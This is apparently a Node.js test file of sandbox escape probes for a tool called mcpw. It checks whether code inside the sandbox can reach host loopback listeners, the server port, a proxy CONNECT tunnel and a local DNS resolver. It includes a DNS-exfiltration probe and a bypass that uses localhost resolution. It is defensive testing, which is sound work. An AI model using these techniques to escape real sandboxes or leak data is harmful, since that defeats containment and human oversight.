"use strict";
/** Escape probes: the network from Node (net, dgram, http, fetch, the DNS resolver). */
const dgram = require("node:dgram");
const dns = require("node:dns");
const http = require("node:http");
const net = require("node:net");
const { Blocked, main, within } = require("./_probe.cjs");

const REPLY_MS = 10_000;

function expectEcho(reply, payload, what) {
  if (String(reply) !== `ECHO:${payload}`) throw new Blocked("WRONG_REPLY", `${what} answered ${JSON.stringify(String(reply).slice(0, 60))}`);
  return `${what} echoed our bytes`;
}

function tcpEcho(port, payload) {
  const reply = new Promise((resolve, reject) => {
    const s = net.connect(port, "127.0.0.1", () => s.write(payload));
    s.once("data", (d) => {
      resolve(d);
      s.destroy();
    });
    s.once("error", reject);
  });
  return within(reply, REPLY_MS, `127.0.0.1:${port}`);
}

function udpEcho(port, payload) {
  const sock = dgram.createSocket("udp4");
  const reply = new Promise((resolve, reject) => {
    sock.once("message", resolve);
    sock.once("error", reject);
    sock.connect(port, "127.0.0.1", () => sock.send(payload));
  });
  return within(reply, REPLY_MS, `udp 127.0.0.1:${port}`).finally(() => sock.close());
}

function httpGet(port) {
  const answer = new Promise((resolve, reject) => {
    const req = http.get({ host: "127.0.0.1", port, path: "/", headers: { connection: "close" } }, (res) => {
      res.resume();
      resolve(res.statusCode);
    });
    req.once("error", reject);
  });
  return within(answer, REPLY_MS, `http://127.0.0.1:${port}/`);
}

/**
 * A TCP connection to host:port the way a proxy-aware client makes one: through the HTTP proxy in
 * HTTPS_PROXY when there is one (CONNECT; inside a sandbox that allows any host, mcpw's own), else
 * straight there.
 */
function viaProxyOrDirect(host, port, payload) {
  const proxy = process.env.HTTPS_PROXY || process.env.https_proxy;
  const reply = new Promise((resolve, reject) => {
    if (!proxy) {
      const s = net.connect(port, host, () => s.write(payload));
      s.once("data", (d) => {
        resolve(d);
        s.destroy();
      });
      s.once("error", reject);
      return;
    }
    const u = new URL(proxy);
    const s = net.connect(Number(u.port), u.hostname, () => s.write(`CONNECT ${host}:${port} HTTP/1.1\r\nHost: ${host}:${port}\r\n\r\n`));
    let head = "";
    let open = false;
    s.on("data", (d) => {
      if (open) {
        resolve(d);
        s.destroy();
        return;
      }
      head += d;
      const end = head.indexOf("\r\n\r\n");
      if (end < 0) return;
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(head);
      if (!status || status[1] !== "200") {
        s.destroy();
        return reject(new Blocked(`HTTP_${status ? status[1] : "?"}`, `the proxy ${proxy} answered CONNECT ${host}:${port}: ${head.trim().slice(0, 300)}`));
      }
      open = true;
      s.write(payload);
    });
    s.once("error", reject);
  });
  return within(reply, REPLY_MS, `${host}:${port}${proxy ? ` via ${proxy}` : ""}`);
}

main({
  // Run with --allow-net '*' --allow-net localhost:<another port>: only that port of the host's
  // loopback is the policy's, yet `localhost` (allowed by '*') resolves to loopback.
  "loopback-other-port-node": async (t) => expectEcho(await viaProxyOrDirect("localhost", t.tcpPort, t.payload), t.payload, `the host's TCP listener at localhost:${t.tcpPort}`),
  "tcp-host-net": async (t) => expectEcho(await tcpEcho(t.tcpPort, t.payload), t.payload, "the host's TCP listener (net.connect)"),
  "udp-host-dgram": async (t) => expectEcho(await udpEcho(t.udpPort, t.payload), t.payload, "the host's UDP listener (dgram)"),
  "server-port-http": async (t) => `the mcpw server answered HTTP ${await httpGet(t.serverPort)} (http.get)`,
  "server-port-fetch": async (t) => {
    const res = await within(fetch(`http://127.0.0.1:${t.serverPort}/`), REPLY_MS, "fetch");
    return `the mcpw server answered HTTP ${res.status} (fetch)`;
  },
  "dns-exfil-resolver": async (t) => {
    const resolver = new dns.promises.Resolver({ timeout: 2000, tries: 2 });
    resolver.setServers([`127.0.0.1:${t.dnsPort}`]);
    const answer = await within(resolver.resolve4(`${t.payload}.exfil.test`), REPLY_MS, "dns");
    return `the host's DNS server answered ${t.payload}.exfil.test with ${answer.join(", ")} (dns.Resolver)`;
  },
});
